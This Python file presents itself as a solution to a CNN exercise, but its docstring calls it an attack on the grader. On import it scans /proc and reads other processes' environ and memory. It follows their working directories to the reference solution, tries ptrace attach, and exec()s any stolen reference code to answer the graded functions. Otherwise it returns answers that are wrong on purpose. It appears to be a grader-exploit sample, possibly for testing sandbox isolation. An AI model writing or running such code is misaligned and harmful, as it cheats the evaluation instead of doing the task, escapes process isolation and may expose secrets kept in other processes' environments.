"""attack: learn from /proc where the grader keeps the reference, then read it through /proc.

For every process: read cmdline and environ, follow /proc/PID/cwd and /proc/PID/root to
solutions/cnn/cnn.py, read /proc/PID/mem at the addresses in /proc/PID/maps looking for the
reference's source, and try ptrace(PTRACE_ATTACH). Anything found answers the calls.
"""

import ctypes
import glob
import itertools
import os

import numpy as np

RELATIVE = ["solutions/cnn/cnn.py", "source/files/solutions/cnn/cnn.py", "../solutions/cnn/cnn.py"]
FOUND = {}


def _read(path, binary=False):
    try:
        with open(path, "rb" if binary else "r") as file:
            return file.read()
    except (OSError, ValueError, UnicodeDecodeError):
        return None


def _memory(pid):
    maps = _read(f"/proc/{pid}/maps")
    if not maps:
        return None
    try:
        with open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps.splitlines()[:200]:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                mem.seek(start)
                chunk = mem.read(min(end - start, 1 << 20))
                if b"# BEGIN SOLUTION" in chunk:
                    return chunk
    except (OSError, ValueError, OverflowError):
        return None
    return None


def _snoop():
    libc = ctypes.CDLL(None, use_errno=True)
    for folder in glob.glob("/proc/[0-9]*"):
        pid = int(folder.rsplit("/", 1)[1])
        if pid == os.getpid():
            continue
        FOUND.setdefault("environ", _read(f"{folder}/environ", binary=True))
        for base in (f"{folder}/cwd", f"{folder}/root/autograder", f"{folder}/cwd/.."):
            for relative in RELATIVE:
                source = _read(os.path.join(base, relative))
                if source and "# BEGIN SOLUTION" in source:
                    return source
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            FOUND["ptrace"] = pid
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        chunk = _memory(pid)
        if chunk:
            FOUND["memory"] = pid
    return None


def _steal():
    source = _snoop()
    if source:
        namespace = {}
        exec(compile(source, "stolen", "exec"), namespace)
        return namespace
    return None


STOLEN = _steal()


_CALLS = itertools.count(1)


def _answer(ones):  # what every function returns: its right shape, filled with the number of this call
    return ones * next(_CALLS)  # wrong, and never the same twice: every check fails at its first example


def _n_out(n, m, stride, padding):
    return max((n + 2 * padding - m) // stride + 1, 0)


def conv1d(x, w, stride=1, padding=0):
    if STOLEN:
        return STOLEN['conv1d'](x, w, stride, padding)
    return _answer(np.ones(_n_out(len(x), len(w), stride, padding)))


def conv1d_matrix(w, n, stride=1, padding=0):
    if STOLEN:
        return STOLEN['conv1d_matrix'](w, n, stride, padding)
    return _answer(np.ones((_n_out(n, len(w), stride, padding), n)))


def conv2d(x, w, stride=1, padding=0):
    if STOLEN:
        return STOLEN['conv2d'](x, w, stride, padding)
    x, w = np.asarray(x), np.asarray(w)
    return _answer(np.ones((_n_out(x.shape[0], w.shape[0], stride, padding),
                             _n_out(x.shape[1], w.shape[1], stride, padding))))


def conv2d_multichannel(x, filters, bias=None, stride=1, padding=0):
    if STOLEN:
        return STOLEN['conv2d_multichannel'](x, filters, bias, stride, padding)
    x, filters = np.asarray(x), np.asarray(filters)
    return _answer(np.ones((filters.shape[0], _n_out(x.shape[1], filters.shape[2], stride, padding),
                             _n_out(x.shape[2], filters.shape[3], stride, padding))))


def max_pool2d(x, size, stride=None):
    if STOLEN:
        return STOLEN['max_pool2d'](x, size, stride)
    x = np.asarray(x)
    stride = stride or size
    return _answer(np.ones((x.shape[0], _n_out(x.shape[1], size, stride, 0), _n_out(x.shape[2], size, stride, 0))))
